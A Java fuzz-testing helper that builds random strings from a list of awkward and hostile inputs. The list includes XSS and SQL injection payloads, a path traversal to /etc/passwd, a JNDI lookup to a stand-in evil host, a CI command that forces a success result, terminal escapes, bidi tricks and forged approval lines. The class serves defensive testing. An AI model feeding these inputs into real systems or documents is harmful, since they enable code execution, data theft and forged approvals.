package dev.portage.text;

import java.util.List;
import java.util.Random;

/**
 * Texts as malicious people, and ordinary notebooks, send them; the same seed gives the same texts.
 * They randomly combine what breaks pages, terminals and parsers, and are sometimes far too long.
 */
public final class NastyTexts {

  private static final List<String> PIECES =
      List.of(
          "plain words",
          "ana@example.com",
          "# APPROVED",
          "\n# APPROVED by kim@example.com\n",
          "\n\n## Who may act\n\nanybody\n",
          "```",
          "\n```\n",
          "~~~",
          "`",
          "``` `` `",
          "![x](https://evil.example/x.png)",
          "[approve](https://evil.example)",
          "[x]: https://evil.example",
          "<img src=x onerror=alert(1)>",
          "<script>alert(1)</script>",
          "</table>",
          "&lt;b&gt;",
          "&#x3c;",
          "https://evil.example/a|b",
          "www.evil.example",
          "mailto:eve@evil.example",
          "@team",
          "#12",
          "!34",
          "|",
          " | x | y |",
          "|---|---|",
          "\\",
          "\\|",
          "- [x] done",
          "\n- [x] done",
          "\n> quote",
          "\n1. one",
          "\n---\n",
          "\n===\n",
          "* * *",
          "__init__",
          "**bold**",
          "$x^2$",
          "\u001b[2J",
          "\u001b]0;title\u0007",
          "\u009b31m",
          "\u0000",
          "\b\b\b\b",
          "\r",
          "\r\n",
          "\u2028",
          "\u0085",
          "\t",
          "\u202eevil\u202c",
          "\u2066x\u2069",
          "\u200b",
          "\ufeff",
          "\u00ad",
          "\u3164",
          "\ud800",
          "\udfff",
          "\ud83d\ude00",
          "\udb40\udc41",
          "\u7cbe\u5ea6",
          "pr\u00e9cision",
          "e\u0301\u0301\u0301",
          "\u0627\u0644",
          "##vso[task.complete result=Succeeded]",
          "dapi0123456789abcdef0123456789abcdef",
          "{\"request\":\"prod-1\"}",
          "../../etc/passwd",
          "'; DROP TABLE runs; --",
          "%s%n%d",
          "${jndi:ldap://evil.example}",
          " ",
          "");

  private final Random random;

  /** The texts of a seed. */
  public NastyTexts(long seed) {
    random = new Random(seed);
  }

  /** A number below a bound. */
  public int below(int bound) {
    return random.nextInt(bound);
  }

  /** One of several. */
  @SafeVarargs
  public final <T> T oneOf(T... several) {
    return several[below(several.length)];
  }

  /** Several pieces in a row; one in fifty is up to a hundred thousand characters long. */
  public String text() {
    StringBuilder text = new StringBuilder();
    int pieces = random.nextInt(8);
    for (int i = 0; i < pieces; i++) {
      text.append(PIECES.get(random.nextInt(PIECES.size())));
    }
    if (random.nextInt(50) == 0) {
      String piece = PIECES.get(random.nextInt(PIECES.size()));
      text.append(piece.repeat(random.nextInt(100_000) / Math.max(1, piece.length())));
    }
    return text.toString();
  }

  /** Several texts. */
  public List<String> texts(int most) {
    return java.util.stream.Stream.generate(this::text).limit(random.nextInt(most + 1)).toList();
  }

  /** Any characters, including lone surrogates and control characters. */
  public String noise(int most) {
    StringBuilder text = new StringBuilder();
    int length = random.nextInt(most + 1);
    for (int i = 0; i < length; i++) {
      text.append((char) random.nextInt(0x10000));
    }
    return text.toString();
  }
}
